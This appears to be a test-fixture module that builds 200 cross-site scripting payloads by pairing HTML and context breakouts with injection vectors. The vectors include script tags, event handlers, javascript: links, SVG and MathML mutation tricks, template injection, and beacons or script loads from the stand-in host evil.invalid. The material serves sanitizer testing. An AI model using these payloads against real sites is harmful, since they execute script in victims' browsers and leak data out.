/** Texts that would run in a careless page. Each calls `pwned` or asks `evil.invalid`. */
const BREAKOUTS = ["", '">', "'>", "</script>", "</title></textarea></style>", "-->", "]]>", "`\"'--></noscript>", "\u001b]8;;javascript:pwned()\u0007", "&lt;/p&gt;"];
const VECTORS = [
  "<script>pwned()</script>", "<ScRiPt src=//evil.invalid/x.js></sCrIpT>", "<img src=x onerror=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<iframe srcdoc='<script>parent.pwned()</script>'>", "<details open ontoggle=pwned()>",
  "<input autofocus onfocus=pwned()>", "<body onload=pwned()>", "<a href=javascript:pwned()>click</a>", "[click](javascript:pwned())", "![x](https://evil.invalid/beacon.png)", "<img src=https://evil.invalid/pixel.gif>", "<link rel=stylesheet href=//evil.invalid/x.css>",
  "<style>@import '//evil.invalid/y.css';</style>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<form action=//evil.invalid><button autofocus>x</button></form>", "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>", "{{constructor.constructor('pwned()')()}}${pwned()}", "<base href=//evil.invalid/><object data='javascript:pwned()'>",
];

/** 200 of them: each way out of where a text may stand, with each thing to do then. */
export const PAYLOADS = BREAKOUTS.flatMap((breakout) => VECTORS.map((vector) => `${breakout}${vector}`));
